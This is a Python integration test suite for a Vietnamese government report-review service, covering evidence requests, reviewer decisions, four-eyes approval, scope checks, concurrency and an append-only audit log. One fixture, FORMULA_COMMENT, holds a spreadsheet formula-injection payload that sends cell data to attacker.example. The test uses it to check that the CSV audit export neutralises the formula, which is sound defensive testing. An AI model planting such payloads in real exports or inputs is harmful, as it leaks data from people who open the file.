"""The review over HTTP, with the submission and review services exchanging events on the
real RabbitMQ and PostgreSQL: the whole flow, four-eyes, scope, concurrent reviewers,
overdue evidence requests, and an audit trail nobody can rewrite."""
from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io

import pytest
import sqlalchemy as sa

from services.review.adapters import orm as review_orm
from services.review.domain.cases import ReviewCase, local_date
from shared.auth import Role
from shared.domain.errors import ConcurrentChange
from tests.support import asyncapi
from tests.support.documents import MINIMAL_PDF, png
from tests.support.keys import TEST_KEY
from tests.support.partner import PartnerSubscriber
from tests.support.polling import eventually
from tests.support.review_system import (
    DEPARTMENT_REVIEWER,
    DEPARTMENT_UNIT,
    DISTRICT,
    OTHER_DISTRICT,
    running,
)

pytestmark = pytest.mark.integration
PDF = MINIMAL_PDF
# A comment that would be a live link in the reviewer's spreadsheet if exported as is.
FORMULA_COMMENT = '=HYPERLINK("http://attacker.example/?d="&A2, "Đề nghị rà soát số cán bộ được tập huấn")'
PNG = png()


@pytest.fixture
def partner(amqp_url, namespace):
    subscriber = PartnerSubscriber(amqp_url, namespace)
    yield subscriber
    subscriber.close()


@pytest.fixture
def system(settings_for, partner):
    with running(settings_for, TEST_KEY) as system:
        yield system


def upload(system, report, criterion, name, data, **form):
    return system.submission_client.post(
        f"/reports/{report.id}/evidence", headers=system.reporter(report.unit_code),
        data={"criterion": criterion, "file": (io.BytesIO(data), name), **form}, content_type="multipart/form-data")


def post(system, report_id, action, body, headers=None):
    return system.review_client.post(f"/cases/{report_id}/{action}", json=body,
                                     headers=headers or system.district_reviewer())


def accept_remaining(system, report_id, headers=None) -> int:
    case = system.case(report_id, headers).json
    version = case["version"]
    for code in case["undecided"]:
        response = post(system, report_id, "decisions",
                        {"criterion": code, "decision": "accept", "expected_version": version}, headers)
        assert response.status_code == 200, response.json
        version = response.json["version"]
    return version


def test_submit_request_evidence_adjust_return_resubmit_verify(system, partner):
    report = system.new_report()
    first_pdf = upload(system, report, "1.1", "Kế hoạch CĐS 2026.pdf", PDF)
    assert first_pdf.status_code == 201, first_pdf.json
    assert first_pdf.json["sha256"] == hashlib.sha256(PDF).hexdigest()
    system.submit(report)

    case = system.wait_for_case(report.id, status="submitted")
    assert case["evidence"]["1.1"][0]["file_id"] == first_pdf.json["id"]
    queue = system.review_client.get("/queue", headers=system.district_reviewer()).json
    assert queue["counts"] == {"submitted": 1} and [item["report_id"] for item in queue["items"]] == [report.id]

    # The reviewer asks for evidence on 2.3; the unit answers with a corrected value and two new files.
    due = (local_date(system.clock.now) + dt.timedelta(days=7)).isoformat()
    asked = post(system, report.id, "evidence-requests", {
        "requests": [{"criterion": "2.3", "message": "Bổ sung danh sách tổ công nghệ số cộng đồng"}], "due_date": due,
        "expected_version": case["version"]})
    assert asked.status_code == 201, asked.json
    assert asked.json["status"] == "evidence_requested"
    eventually(lambda: system.report_status(report)["status"] == "evidence_requested", what="report follows review")
    minutes = upload(system, report, "2.3", "bien-ban.png", PNG)
    replaced = upload(system, report, "1.1", "Kế hoạch (bản ký số).pdf", PDF + b"%signed\n",
                      supersedes=first_pdf.json["id"])
    assert (minutes.status_code, replaced.status_code) == (201, 201)
    assert replaced.json["version"] == 2
    replied = system.submission_client.post(f"/reports/{report.id}/evidence-reply", headers=system.reporter(),
                                            json={"answers": {"villages_with_team": 9}, "note": "Đã bổ sung"})
    assert replied.status_code == 200, replied.json

    case = system.wait_for_case(report.id, status="submitted", revision=1,
                                answers={**report.answers, "villages_with_team": 9})
    reply = case["evidence_requests"][0]["reply"]
    assert reply["changes"] == [{"field": "villages_with_team", "before": report.answers["villages_with_team"],
                                 "after": 9}]
    assert sorted((f["criterion"], f["file_id"]) for f in reply["new_files"]) == sorted(
        [("1.1", replaced.json["id"]), ("2.3", minutes.json["id"])])
    # The superseded file left the manifest but stays downloadable.
    assert [f["file_id"] for f in case["evidence"]["1.1"]] == [replaced.json["id"]]
    old = system.submission_client.get(f"/reports/{report.id}/evidence/{first_pdf.json['id']}",
                                       headers=system.district_reviewer())
    assert old.status_code == 200 and old.data == PDF

    adjusted = post(system, report.id, "decisions", {
        "criterion": "2.3", "decision": "adjust", "values": {"villages_with_team": 7},
        "reason": "Danh sách chỉ xác nhận 7 thôn có tổ", "expected_version": case["version"]})
    assert adjusted.status_code == 200, adjusted.json
    assert adjusted.json["reviewed_answers"]["villages_with_team"] == 7

    returned = post(system, report.id, "return", {
        "comment": FORMULA_COMMENT, "criterion_comments": {"2.2": "Thiếu danh sách"},
        "expected_version": adjusted.json["version"]})
    assert returned.status_code == 200 and returned.json["status"] == "returned"
    returned_report = eventually(lambda: (r := system.report_status(report))["status"] == "returned" and r)
    assert returned_report["criterion_comments"] == {"2.2": "Thiếu danh sách"}

    # The unit revises and resubmits: revision 2, the 1.4 adjustment stands (its inputs did not change).
    patched = system.submission_client.patch(f"/reports/{report.id}", headers=system.reporter(),
                                             json={"answers": {"staff_trained": 5}})
    assert patched.status_code == 200, patched.json
    system.submit(report)
    case = system.wait_for_case(report.id, status="submitted", revision=2)
    assert "2.3" in case["decisions"]

    versions = system.review_client.get(f"/cases/{report.id}/versions", headers=system.district_reviewer()).json
    assert [(v["revision"], v["kind"]) for v in versions["versions"]] == [
        (1, "submitted"), (1, "evidence_provided"), (2, "submitted")]
    assert versions["versions"][2]["changes"] == [{"field": "staff_trained", "before": report.answers["staff_trained"],
                                                   "after": 5}]

    refused = post(system, report.id, "verify", {"expected_version": case["version"]})
    assert refused.status_code == 409 and "1.1" in refused.json["undecided"]
    assert "chưa thẩm định" in refused.json["detail"]
    version = accept_remaining(system, report.id)
    verified = post(system, report.id, "verify", {"expected_version": version})
    assert verified.status_code == 200 and verified.json["status"] == "verified"
    eventually(lambda: system.report_status(report)["status"] == "verified", what="report verified in submission")

    events = partner.collect(lambda got: any(e["type"].endswith("report.verified") for e in got))
    assert [e["type"].removeprefix("vn.gov.cqs.") for e in events] == [
        "report.submitted", "report.evidence_requested", "report.evidence_provided", "report.returned",
        "report.submitted", "report.verified"]
    for event in events:
        asyncapi.validate(event["type"].removeprefix("vn.gov.cqs."), event)
    submitted = events[0]["data"]
    assert submitted["evidence"]["1.1"] == [{
        "file_id": first_pdf.json["id"], "name": "Kế hoạch CĐS 2026.pdf", "sha256": hashlib.sha256(PDF).hexdigest(),
        "size": len(PDF), "content_type": "application/pdf", "version": 1}]
    outcome = events[-1]["data"]
    assert outcome["answers"]["villages_with_team"] == 7
    assert outcome["self_assessed_answers"]["villages_with_team"] == 9
    assert outcome["answers"]["staff_trained"] == 5 and outcome["revision"] == 2
    assert [(a["criterion"], a["field"], a["before"], a["after"], a["by"]) for a in outcome["adjustments"]] == [
        ("2.3", "villages_with_team", 9, 7, "reviewer-a")]
    assert outcome["points_overrides"] == {} and outcome["verified_by"] == "reviewer-a"

    audit = system.review_client.get(f"/cases/{report.id}/audit", headers=system.district_reviewer()).json
    actions = [entry["action"] for entry in audit]
    assert actions[:6] == ["report_submitted", "evidence_requested", "evidence_provided", "decision_recorded",
                           "returned", "report_submitted"]
    assert actions[-1] == "verified" and actions.count("decision_recorded") == len(case["undecided"]) + 1
    adjustment = audit[3]
    assert (adjustment["actor"], adjustment["criterion"], adjustment["reason"]) == (
        "reviewer-a", "2.3", "Danh sách chỉ xác nhận 7 thôn có tổ")
    exported = system.review_client.get(f"/cases/{report.id}/audit?format=csv", headers=system.district_reviewer())
    assert exported.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(exported.data.decode("utf-8-sig"))))
    assert [row["action"] for row in rows] == actions
    assert rows[3]["reason"] == "Danh sách chỉ xác nhận 7 thôn có tổ"
    assert [row["reason"] for row in rows if row["action"] == "returned"] == ["'" + FORMULA_COMMENT]

    # Append-only, down to the database: no entry can be changed or removed.
    with pytest.raises(sa.exc.DBAPIError, match="append-only"):
        with system.review.engine.begin() as conn:
            conn.execute(review_orm.audit_log.update().values(reason="rewritten"))
    with pytest.raises(sa.exc.DBAPIError, match="append-only"):
        with system.review.engine.begin() as conn:
            conn.execute(review_orm.audit_log.delete())


def test_four_eyes_needs_a_second_reviewer_of_the_same_organisation(system, partner):
    admin = system.token("admin", Role.ADMIN, "HT")
    turned_on = system.review_client.put(f"/settings/{DISTRICT}", json={"four_eyes": True}, headers=admin)
    assert turned_on.status_code == 200 and turned_on.json["four_eyes"] is True
    assert system.review_client.put(f"/settings/{DISTRICT}", json={"four_eyes": False},
                                    headers=system.district_reviewer()).status_code == 403
    report, _case = system.submitted_case()

    version = accept_remaining(system, report.id)
    pending = post(system, report.id, "verify", {"expected_version": version})
    assert pending.status_code == 200 and pending.json["status"] == "awaiting_approval"
    queue = system.review_client.get("/queue?status=awaiting_approval", headers=system.district_reviewer()).json
    assert [item["report_id"] for item in queue["items"]] == [report.id]

    # Four-eyes compares accounts (the token's `sub`): another token of the same account is not a second pair.
    own = post(system, report.id, "approve", {"expected_version": pending.json["version"]})
    assert own.status_code == 403 and "không thể tự phê duyệt" in own.json["detail"]
    other_district = post(system, report.id, "approve", {"expected_version": pending.json["version"]},
                          system.district_reviewer("reviewer-x", OTHER_DISTRICT))
    assert other_district.status_code == 403
    approved = post(system, report.id, "approve", {"expected_version": pending.json["version"]},
                    system.district_reviewer("reviewer-b"))
    assert approved.status_code == 200 and approved.json["status"] == "verified"

    [verified] = [e for e in partner.collect(lambda got: any(e["type"].endswith("verified") for e in got))
                  if e["type"].endswith("verified")]
    assert verified["data"]["verified_by"] == "reviewer-a"
    audit = system.review_client.get(f"/cases/{report.id}/audit", headers=system.district_reviewer()).json
    assert [(e["action"], e["actor"]) for e in audit[-2:]] == [("verification_requested", "reviewer-a"),
                                                               ("approved", "reviewer-b")]


def test_reviewers_see_and_decide_only_their_own_scope(system):
    commune, case = system.submitted_case()
    department, _ = system.submitted_case(unit_code=DEPARTMENT_UNIT, unit_type="province_department",
                                          reviewer=DEPARTMENT_REVIEWER, reviewer_kind="department")
    audit_before = system.review_client.get(f"/cases/{commune.id}/audit", headers=system.district_reviewer()).json

    own_queue = system.review_client.get("/queue", headers=system.district_reviewer()).json
    assert [item["report_id"] for item in own_queue["items"]] == [commune.id]
    other = system.district_reviewer("reviewer-x", OTHER_DISTRICT)
    assert system.review_client.get("/queue", headers=other).json == {"counts": {}, "total": 0, "items": []}
    department_reviewer = system.token("reviewer-d", Role.DEPARTMENT_REVIEWER, DEPARTMENT_REVIEWER)
    accept = {"criterion": "1.1", "decision": "accept", "expected_version": case["version"]}
    # The right unit in the wrong role: the Department holding a district reviewer's token, a
    # district holding a department reviewer's token.
    misfit_district = system.token("reviewer-m", Role.DISTRICT_REVIEWER, DEPARTMENT_REVIEWER)
    misfit_department = system.token("reviewer-n", Role.DEPARTMENT_REVIEWER, DISTRICT)
    for misfit in (misfit_district, misfit_department):
        assert system.review_client.get("/queue", headers=misfit).json["total"] == 0
    for headers, report_id in ((other, commune.id), (department_reviewer, commune.id),
                               (system.district_reviewer(), department.id), (misfit_district, department.id),
                               (misfit_department, commune.id)):
        read = system.case(report_id, headers)
        decided = post(system, report_id, "decisions", accept, headers)
        assert (read.status_code, decided.status_code) == (403, 403)
        assert decided.mimetype == "application/problem+json" and "không có quyền" in decided.json["detail"]
    for reporter in (system.reporter(), system.reporter(DEPARTMENT_UNIT)):
        assert post(system, commune.id, "decisions", accept, reporter).status_code == 403
        assert post(system, commune.id, "verify", {"expected_version": 1}, reporter).status_code == 403
        assert system.review_client.get("/queue", headers=reporter).status_code == 403

    after = system.case(commune.id).json
    assert (after["version"], after["decisions"]) == (case["version"], {})
    assert system.review_client.get(f"/cases/{commune.id}/audit",
                                     headers=system.district_reviewer()).json == audit_before
    admin = system.token("admin", Role.ADMIN, "HT")
    assert system.review_client.get("/queue", headers=admin).json["total"] == 2
    assert post(system, commune.id, "decisions", accept, admin).status_code == 403


def test_two_reviewers_on_the_same_version_one_wins_the_other_sees_what_changed(system):
    report, case = system.submitted_case()
    first = post(system, report.id, "decisions", {
        "criterion": "1.4", "decision": "adjust", "values": {"tasks_assigned": 12}, "reason": "Theo kế hoạch giao",
        "expected_version": case["version"]})
    second = post(system, report.id, "decisions", {
        "criterion": "1.4", "decision": "accept", "expected_version": case["version"]},
        system.district_reviewer("reviewer-b"))
    assert first.status_code == 200 and second.status_code == 409
    conflict = second.json
    assert conflict["current_version"] == first.json["version"] and conflict["expected_version"] == case["version"]
    [change] = conflict["changes"]
    assert (change["action"], change["actor"], change["criterion"]) == ("decision_recorded", "reviewer-a", "1.4")
    assert change["after"]["values"] == {"tasks_assigned": {"before": report.answers["tasks_assigned"], "after": 12}}
    assert system.case(report.id).json["decisions"]["1.4"]["decision"] == "adjust"


def test_the_case_row_is_guarded_by_its_version(system):
    """Two writers that both read the same version: the database refuses the second write (the unit of
    work says so in the domain's words)."""
    report, case = system.submitted_case()
    with system.review.uow_factory() as slow:
        stale = slow.session.get(ReviewCase, report.id)
        assert post(system, report.id, "decisions", {"criterion": "1.1", "decision": "accept",
                                                     "expected_version": case["version"]}).status_code == 200
        stale.review_comment = "written on a stale read"
        with pytest.raises(ConcurrentChange) as refused:
            slow.commit()
        assert isinstance(refused.value.__cause__, sa.orm.exc.StaleDataError)


def test_overdue_evidence_requests_in_scope(system):
    report, case = system.submitted_case()
    due = local_date(system.clock.now) + dt.timedelta(days=3)
    asked = post(system, report.id, "evidence-requests", {
        "requests": [{"criterion": "3.3", "message": "Ảnh chụp điểm cầu"}], "due_date": due.isoformat(),
        "expected_version": case["version"]})
    assert asked.status_code == 201, asked.json
    overdue = lambda headers: system.review_client.get("/evidence-requests/overdue", headers=headers).json  # noqa: E731
    assert overdue(system.district_reviewer()) == []
    system.clock.advance(days=5)
    [late] = overdue(system.district_reviewer())
    assert (late["report_id"], late["days_overdue"], late["due_date"]) == (report.id, 2, due.isoformat())
    assert overdue(system.district_reviewer("reviewer-x", OTHER_DISTRICT)) == []
    aged = system.review_client.get("/queue?min_age_days=4", headers=system.district_reviewer()).json
    assert aged["counts"] == {"evidence_requested": 1}
    assert system.review_client.get("/queue?min_age_days=6", headers=system.district_reviewer()).json["total"] == 0


def test_a_past_due_date_or_unknown_criterion_is_refused_in_vietnamese(system):
    report, case = system.submitted_case()
    past = post(system, report.id, "evidence-requests", {
        "requests": [{"criterion": "1.4", "message": "x"}], "due_date": "2020-01-01",
        "expected_version": case["version"]})
    assert past.status_code == 422 and "đã qua" in past.json["detail"] and past.json["detail_en"]
    assert past.json["errors"]["due_date"][0]["rule"] == "not_in_past"
    unknown = post(system, report.id, "decisions", {"criterion": "9.9", "decision": "accept",
                                                   "expected_version": case["version"]})
    assert unknown.status_code == 422 and unknown.json["criterion"] == "9.9" and "criterion" in unknown.json["errors"]
    no_reason = post(system, report.id, "decisions", {"criterion": "1.4", "decision": "adjust",
                                                     "values": {"tasks_assigned": 12},
                                                     "expected_version": case["version"]})
    assert no_reason.status_code == 422 and "lý do" in no_reason.json["detail"]
    assert no_reason.json["errors"]["reason"][0]["rule"] == "required"
    # Text that cannot be stored or is longer than its column is refused at the edge, naming the field.
    adjust = {"criterion": "1.4", "decision": "adjust", "values": {"tasks_assigned": 12}, "reason": "đếm lại",
              "expected_version": case["version"]}
    for changes, field in (({"reason": "sai\x00số liệu"}, "reason"), ({"reason": "x" * 4001}, "reason"),
                           ({"values": {"tasks_assigned\x01": 12}}, "values.tasks_assigned\ufffd")):
        refused = post(system, report.id, "decisions", {**adjust, **changes})
        assert refused.status_code == 422 and field in refused.json["errors"], refused.json
    assert system.case(report.id).json["version"] == case["version"]
